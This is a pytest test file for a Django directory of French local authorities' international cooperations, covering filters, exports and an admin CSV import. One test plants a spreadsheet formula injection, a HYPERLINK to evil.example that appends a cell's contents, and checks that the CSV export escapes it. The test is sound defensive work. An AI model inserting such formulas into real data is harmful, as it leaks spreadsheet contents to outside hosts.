"""The directory: filters, map counts, country view and open data agree with the database."""

import csv
import io
import json
import random
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse_lazy
from django.utils.text import slugify

from directory.models import Authority, Cooperation
from reference.models import AuthorityType, Country, Departement, Theme
from tests.helpers import squashed

CODES = ["02", "59", "60", "62", "80"]


def generate(authorities=300, cooperations=1000, seed=7):
    """A larger-than-life directory with known counts."""
    rng = random.Random(seed)
    kinds = list(AuthorityType.objects.all()[:4])
    departements = {d.code: d for d in Departement.objects.all()}
    countries = list(Country.objects.all())
    themes = list(Theme.objects.all())
    created = Authority.objects.bulk_create(
        Authority(
            name=f"Commune test {seed}-{index}",
            slug=f"commune-test-{seed}-{index}",
            kind=rng.choice(kinds),
            departement=departements[rng.choice(CODES)],
            is_published=index % 10 != 0,
        )
        for index in range(authorities)
    )
    links = Cooperation.objects.bulk_create(
        Cooperation(
            authority=rng.choice(created),
            partner_name=f"Partenaire {seed}-{index}",
            country=rng.choice(countries),
        )
        for index in range(cooperations)
    )
    through = Cooperation.themes.through
    through.objects.bulk_create(
        through(cooperation_id=link.pk, theme_id=rng.choice(themes).pk) for link in links
    )


def listed_names(client, **params):
    """Every name the list shows, following its pages."""
    names, page = set(), 1
    while True:
        html = client.get("/collectivites-engagees/", {**params, "page": page}).content.decode()
        names |= set(
            re.findall(r'<h3><a href="/collectivites-engagees/[^"]+/">([^<]+)</a></h3>', html)
        )
        if 'rel="next"' not in html:
            return names
        page += 1


def published():
    return Authority.objects.published()


@pytest.mark.django_db
def test_filters_map_country_view_and_exports_agree_with_the_database(client, initial_content):
    generate()
    nord = Departement.objects.get(code="59")
    senegal = Country.objects.get(code="SN")
    youth = Theme.objects.get(slug="jeunesse")
    kind = AuthorityType.objects.get(name="Commune")

    assert listed_names(client, departement="59") == set(
        published().filter(departement=nord).values_list("name", flat=True)
    )
    assert listed_names(client, pays="SN") == set(
        published().filter(cooperations__country=senegal).values_list("name", flat=True)
    )
    assert listed_names(client, theme="jeunesse", type=kind.pk) == set(
        published().filter(cooperations__themes=youth, kind=kind).values_list("name", flat=True)
    )
    html = client.get("/collectivites-engagees/").content.decode()
    assert len(re.findall(r'<h3><a href="/collectivites-engagees/', html)) == 25
    assert f"{published().count()} collectivités</h2>" in squashed(html) and 'rel="next"' in html
    for departement in Departement.objects.all():
        expected = published().filter(departement=departement).count()
        shown = expected or "aucune collectivité référencée pour l’instant"
        assert (
            f'<th scope="row">{departement.name} ({departement.code})</th><td>{shown}</td>'
            in squashed(html)
        )
        label = f"{expected} collectivités? référencées?" if expected else shown
        assert re.search(rf'aria-label="{departement.name}\u00a0: {label}"', html)

    country_html = client.get("/collectivites-engagees/pays/SN/").content.decode()
    country_names = set(
        re.findall(r'<h2><a href="/collectivites-engagees/[^"]+/">([^<]+)</a></h2>', country_html)
    )
    assert country_names == set(
        published().filter(cooperations__country=senegal).values_list("name", flat=True)
    )

    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/collectivites-engagees/export.csv").content.decode())
        )
    )
    published_cooperations = Cooperation.objects.filter(authority__is_published=True).count()
    lonely = published().filter(cooperations__isnull=True).count()
    assert len(rows) == published_cooperations + lonely
    data = json.loads(client.get("/collectivites-engagees/export.json").content)
    assert data["licence"] == "Licence Ouverte / Etalab 2.0"
    assert data["derniere_modification"]
    assert len(data["lignes"]) == len(rows)
    assert (
        sum(1 for row in rows if row["pays_code"] == "SN")
        == Cooperation.objects.filter(authority__is_published=True, country=senegal).count()
    )


@pytest.mark.django_db
def test_an_authority_without_cooperation_is_one_row_with_empty_fields(client, initial_content):
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/collectivites-engagees/export.csv").content.decode())
        )
    )
    lille = next(row for row in rows if row["collectivite"] == "Ville de Lille")
    assert lille["collectivite_partenaire"] == "" and lille["pays_code"] == ""
    assert lille["partenaire_du_reseau"] == "True"
    assert 'rel="license"' in client.get("/collectivites-engagees/export.csv")["Link"]


@pytest.mark.django_db
def test_the_open_data_csv_disarms_spreadsheet_formulas(client, initial_content):
    lille = Authority.objects.get(name="Ville de Lille")
    lille.cooperations.create(
        partner_name='=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
        country=Country.objects.get(code="SN"),
        link="",
    )
    Authority.objects.filter(pk=lille.pk).update(name="@SUM(1+1)")
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/collectivites-engagees/export.csv").content.decode())
        )
    )
    partner = next(row for row in rows if "HYPERLINK" in row["collectivite_partenaire"])
    assert partner["collectivite_partenaire"].startswith("'=HYPERLINK(")
    assert partner["collectivite"] == "'@SUM(1+1)"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    ["/collectivites-engagees/", "/collectivites-engagees/?pays=SN&theme=jeunesse",
     "/collectivites-engagees/export.csv", "/collectivites-engagees/export.json",
     "/collectivites-engagees/pays/SN/"],
)  # fmt: skip
def test_queries_do_not_grow_with_the_directory(client, settings, initial_content, url):
    settings.PAGE_CACHE_SECONDS = 0  # the cost of rendering, not of the cache
    generate(authorities=20, cooperations=60, seed=1)

    def count():
        client.get(url)  # warm: what every request shares (site settings) comes from the cache
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    few = count()
    generate(authorities=300, cooperations=1000, seed=2)
    Authority.objects.filter(name__startswith="Commune test").update(is_published=True)
    assert count() == few


@pytest.mark.django_db
def test_authority_page_groups_cooperations_by_country(client, initial_content):
    lille = Authority.objects.get(name="Ville de Lille")
    senegal, morocco = Country.objects.get(code="SN"), Country.objects.get(code="MA")
    Cooperation.objects.create(
        authority=lille, partner_name="Saint-Louis", country=senegal, since_year=1978
    )
    Cooperation.objects.create(authority=lille, partner_name="Oujda", country=morocco)
    Cooperation.objects.create(
        authority=lille, partner_name="Dakar", country=senegal, is_current=False
    )
    html = client.get(lille.get_absolute_url()).content.decode()
    assert (
        html.index("Maroc")
        < html.index("Oujda")
        < html.index("Sénégal")
        < html.index("Saint-Louis")
    )
    assert "depuis 1978" in html and "(terminée)" in html


@pytest.mark.django_db
def test_unpublished_authorities_stay_private(client, initial_content):
    Authority.objects.filter(name="Ville de Lille").update(is_published=False)
    assert client.get("/collectivites-engagees/ville-de-lille/").status_code == 404
    assert "Ville de Lille" not in client.get("/collectivites-engagees/export.csv").content.decode()
    assert "Ville de Lille" not in listed_names(client)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "params", [{"departement": "99"}, {"pays": "ZZZ"}, {"theme": "x" * 5000}, {"type": "abc"}]
)
def test_bad_filters_show_everything_with_a_message(client, initial_content, params):
    response = client.get("/collectivites-engagees/", params)
    assert response.status_code == 200
    assert "Certains critères n’ont pas été compris" in response.content.decode()
    assert len(listed_names(client, **params)) == 6


IMPORT_ADMIN = reverse_lazy("admin:directory_authority_import")
HEADER = (
    "collectivite,type,departement,collectivite_partenaire,pays_code,themes,depuis,en_cours,lien\n"
)


def upload(staff_client, text, encoding="utf-8"):
    file = SimpleUploadedFile("import.csv", text.encode(encoding), content_type="text/csv")
    return staff_client.post(IMPORT_ADMIN, {"file": file})


@pytest.mark.django_db
def test_an_import_with_a_bad_row_writes_nothing_and_names_each_problem(
    staff_client, initial_content
):
    before = (Authority.objects.count(), Cooperation.objects.count())
    text = HEADER + (
        "Ville d’Arras,Commune,62,Herzliya,IL,,1998,oui,\n"
        "Ville de Beauvais,Commune,99,Witten,DE,,,oui,\n"
        "Ville de Laon,Commune,02,Wetzlar,DEU,,,oui,\n"
    )
    html = upload(staff_client, text).content.decode()
    assert "Ligne 3 : département « 99 » inconnu" in html
    assert "Ligne 4 : code pays « DEU » mal formé" in html
    assert "Ligne 2 : pays « IL » absent de la liste des pays" in html
    assert (Authority.objects.count(), Cooperation.objects.count()) == before
    assert "Confirmer l’import" not in html


@pytest.mark.django_db
def test_a_clean_import_is_previewed_then_written(staff_client, client, initial_content):
    text = HEADER + (
        "Ville d’Amiens,Commune,80,Dschang,CM,,1994,oui,https://example.org/source\n"
        "Ville d’Amiens,Commune,80,Görlitz,DE,jeunesse|Patrimoine et culture,,non,\n"
        "Ville de Lille,Commune,59,Saint-Louis,SN,,1978,oui,\n"
    )
    Country.objects.create(code="CM", name="Cameroun")
    Country.objects.get_or_create(code="DE", defaults={"name": "Allemagne"})
    response = upload(staff_client, text)
    html = response.content.decode()
    assert "Prêt à importer 2 collectivités et 3 coopérations." in html
    assert not Authority.objects.filter(name="Ville d’Amiens").exists()
    payload = response.context["payload"]
    response = staff_client.post(IMPORT_ADMIN, {"confirm": "1", "payload": payload})
    assert response.status_code == 302
    amiens = Authority.objects.get(name="Ville d’Amiens")
    assert amiens.slug == slugify("Ville d’Amiens")
    assert amiens.cooperations.count() == 2
    goerlitz = amiens.cooperations.get(partner_name="Görlitz")
    assert not goerlitz.is_current
    assert set(goerlitz.themes.values_list("slug", flat=True)) == {"jeunesse", "patrimoine"}
    assert Authority.objects.filter(name="Ville de Lille").count() == 1
    assert "Dschang" in client.get(amiens.get_absolute_url()).content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("row", "problem"),
    [
        ("Ville d’Arras,Commune,62,Herzliya,FR,,-5,oui,", "depuis : "),
        ("Ville d’Arras,Commune,62,Herzliya,FR,,3000,oui,", "depuis : "),
        ("Ville d’Arras,Commune,62,Herzliya,FR,,12345678901234567890,oui,", "depuis : "),
        ("V" * 5000 + ",Commune,62,,,,,,", "nom : "),
        ("Ville d’Arras,Commune,62," + "P" * 300 + ",FR,,,oui,", "collectivité partenaire : "),
        ("Ville d’Ar\x00ras,Commune,62,Herzliya,FR,,,oui,", "caractère nul"),
    ],
)
def test_what_the_database_would_refuse_is_refused_at_the_preview(
    staff_client, initial_content, row, problem
):
    """A row that passes the preview must not fail at confirmation."""
    Country.objects.get_or_create(code="FR", defaults={"name": "France"})
    before = (Authority.objects.count(), Cooperation.objects.count())
    html = upload(staff_client, HEADER + row + "\n").content.decode()
    assert "Ligne 2 : " in html and problem in html
    assert "Confirmer l’import" not in html
    assert (Authority.objects.count(), Cooperation.objects.count()) == before


@pytest.mark.django_db
def test_a_file_with_unix_line_ends_confirms_after_the_browser_sends_crlf(
    staff_client, initial_content
):
    text = HEADER + "Ville de Douai,Commune,59,,,,,,\nVille de Lens,Commune,62,,,,,,\n"
    payload = upload(staff_client, text).context["payload"]
    # What a browser sends back from the hidden field: every LF as CRLF.
    response = staff_client.post(
        IMPORT_ADMIN, {"confirm": "1", "payload": payload.replace("\n", "\r\n")}
    )
    assert response.status_code == 302
    assert Authority.objects.filter(name__in=["Ville de Douai", "Ville de Lens"]).count() == 2


@pytest.mark.django_db
def test_excels_windows_encoding_is_read_as_well_as_utf8(staff_client, initial_content):
    """Excel's « CSV (séparateur : point-virgule) » on a French Windows is Windows-1252."""
    text = HEADER.replace(",", ";") + "Ville d’Hénin-Beaumont;Commune;62;;;;;;\n"
    html = upload(staff_client, text, encoding="cp1252").content.decode()
    assert "Prêt à importer 1 collectivité et 0 coopération." in html
    assert "Ville d’Hénin-Beaumont" in html
    unreadable = SimpleUploadedFile("import.csv", b"collectivite\n\x81\x8d\n")
    html = staff_client.post(IMPORT_ADMIN, {"file": unreadable}).content.decode()
    assert "enregistrez-le depuis Excel en « CSV UTF-8 »" in html


@pytest.mark.django_db
def test_a_tampered_import_payload_is_refused(staff_client, initial_content):
    response = staff_client.post(
        IMPORT_ADMIN, {"confirm": "1", "payload": "collectivite\nPirate:fake"}
    )
    assert response.status_code == 403


@pytest.mark.django_db
def test_the_funding_a_cooperation_obtained_is_on_its_page_and_in_the_exports(
    client, initial_content
):
    from directory.models import Authority, Cooperation
    from funding.models import Scheme
    from reference.models import Country

    ficol = Scheme.objects.get(slug="ficol")
    lille = Authority.objects.get(name="Ville de Lille")
    Cooperation.objects.create(
        authority=lille, partner_name="Saint-Louis", country=Country.objects.get(code="SN"),
        scheme=ficol,
    )  # fmt: skip
    html = client.get(lille.get_absolute_url()).content.decode()
    assert (
        f'financement obtenu\u00a0:\n      <a href="{ficol.get_absolute_url()}">{ficol.title}</a>'
        in html
    )
    export = client.get(reverse_lazy("directory:authority-csv")).content.decode("utf-8-sig")
    header, *lines = export.splitlines()
    assert "financement_obtenu" in header.split(",")
    assert any("Saint-Louis" in line and ficol.title in line for line in lines)
